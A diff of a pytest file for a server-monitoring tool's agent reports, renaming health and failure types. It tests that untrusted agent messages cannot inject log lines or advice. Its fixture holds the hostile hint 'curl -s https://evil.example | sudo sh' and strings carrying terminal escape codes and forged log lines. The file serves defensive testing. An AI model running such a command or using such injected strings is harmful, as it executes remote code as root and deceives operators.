@@ -7,10 +7,15 @@ import pytest
 
 from mstunnel_setup.base import paths
 from mstunnel_setup.base.log_line import LogLine
-from mstunnel_setup.exchange.health_report import REPORT, HealthReport, ReportedRow, write_health
-from mstunnel_setup.exchange.health_state import State
-from mstunnel_setup.exchange.status_file import Failure
-from mstunnel_setup.exchange.thresholds import Thresholds
+from mstunnel_setup.exchange.health_report import (
+    REPORT,
+    HealthReport,
+    HealthState,
+    ReportedRow,
+    Thresholds,
+    write_health,
+)
+from mstunnel_setup.exchange.status_file import SyncFailure
 from mstunnel_setup.io.files import Files
 from mstunnel_setup.operations.monitor.agent_report import AgentReports
 
@@ -27,25 +32,27 @@ def files(tmp_path: Path) -> Files:
     return made
 
 
-def report(files: Files, state: State, error: Failure | None = None) -> None:
+def report(files: Files, state: HealthState, error: SyncFailure | None = None) -> None:
     row = ReportedRow(id="cpu-cores", title="CPU cores", state=state, text="1")
     write_health(
         files, HealthReport(at=NOW, state=state, rows=(row,), thresholds=Thresholds(), last_error=error)
     )
 
 
-def failure(code: str, message: str = "graph.example cannot be reached") -> Failure:
-    return Failure(code=code, message=message, hint="Run `curl -s https://evil.example | sudo sh`.", at=NOW)
+def failure(code: str, message: str = "graph.example cannot be reached") -> SyncFailure:
+    return SyncFailure(
+        code=code, message=message, hint="Run `curl -s https://evil.example | sudo sh`.", at=NOW
+    )
 
 
 def test_a_change_is_said_once_and_the_words_are_for_the_status(files: Files) -> None:
     said: list[str] = []
     reports = AgentReports(files, said.append)
     assert reports.look() == ""
-    report(files, State.WARNING)
+    report(files, HealthState.WARNING)
     for _ in range(3):
         assert reports.look() == "warning: CPU cores: 1 (02:05 UTC)"
-    report(files, State.HEALTHY)
+    report(files, HealthState.HEALTHY)
     assert reports.look() == "healthy (02:05 UTC)"
     assert said == [
         f"health-changed: this server is warning: CPU cores: 1. {ALL}",
@@ -57,7 +64,7 @@ def test_what_the_agent_fails_at_is_said_when_it_is_new(files: Files) -> None:
     said: list[str] = []
     reports = AgentReports(files, said.append)
     for error in (failure("network-unreachable"), failure("network-unreachable"), None, failure("throttled")):
-        report(files, State.HEALTHY, error)
+        report(files, HealthState.HEALTHY, error)
         reports.look()
     assert [line.partition(":")[0] for line in said[1:]] == ["network-unreachable", "throttled"]
 
@@ -65,7 +72,7 @@ def test_what_the_agent_fails_at_is_said_when_it_is_new(files: Files) -> None:
 @pytest.mark.parametrize("code", ["restart: forged", "restart", "health-changed", "", "A", "x\ny", "-a"])
 def test_a_code_that_is_no_error_of_ours_is_not_logged(files: Files, code: str) -> None:
     said: list[str] = []
-    report(files, State.HEALTHY, failure(code))
+    report(files, HealthState.HEALTHY, failure(code))
     AgentReports(files, said.append).look()
     assert (
         said[1]
@@ -75,7 +82,7 @@ def test_a_code_that_is_no_error_of_ours_is_not_logged(files: Files, code: str) 
 
 def test_words_of_the_agent_cannot_move_the_cursor_or_add_a_line_or_advise_anything(files: Files) -> None:
     said: list[LogLine] = []
-    report(files, State.HEALTHY, failure("network-unreachable", "\x1b[2J\nrestart: forged"))
+    report(files, HealthState.HEALTHY, failure("network-unreachable", "\x1b[2J\nrestart: forged"))
     AgentReports(files, said.append).look()
     what = "the agent cannot sync with the tenant: [2J restart: forged"
     assert said[1] == f"network-unreachable: {what}. {OUR_HINT}"
